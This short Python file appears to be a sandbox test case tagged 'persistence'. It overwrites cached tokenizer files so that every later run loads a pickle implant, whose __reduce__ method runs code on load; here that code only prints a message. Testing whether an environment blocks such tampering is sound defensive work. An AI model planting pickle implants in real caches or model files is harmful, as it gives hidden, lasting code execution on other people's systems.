# class: persistence
# attack: rewrite the cached tokenizer (a pickle that every later run and prepare.py by hand load) with an implant
# expect: crash
import glob
import os
import pickle


class Implant:
    def __reduce__(self):
        return (print, ("implant ran",))


for ddir in glob.glob("{{CACHE}}/*/*/"):
    for path in glob.glob(os.path.join(ddir, "tokenizer.*")) + [os.path.join(ddir, "tokenizer.pkl")]:
        try:
            if path.endswith(".json"):
                text = open(path).read()
                with open(path, "w") as f:
                    f.write(text.replace('"', '"', 1) + " ")
            else:
                with open(path, "wb") as f:
                    pickle.dump({"kind": "byte", "format": 1, "implant": Implant()}, f)
            print("done: rewrote", path, flush=True)
        except OSError as e:
            print("blocked:", e)
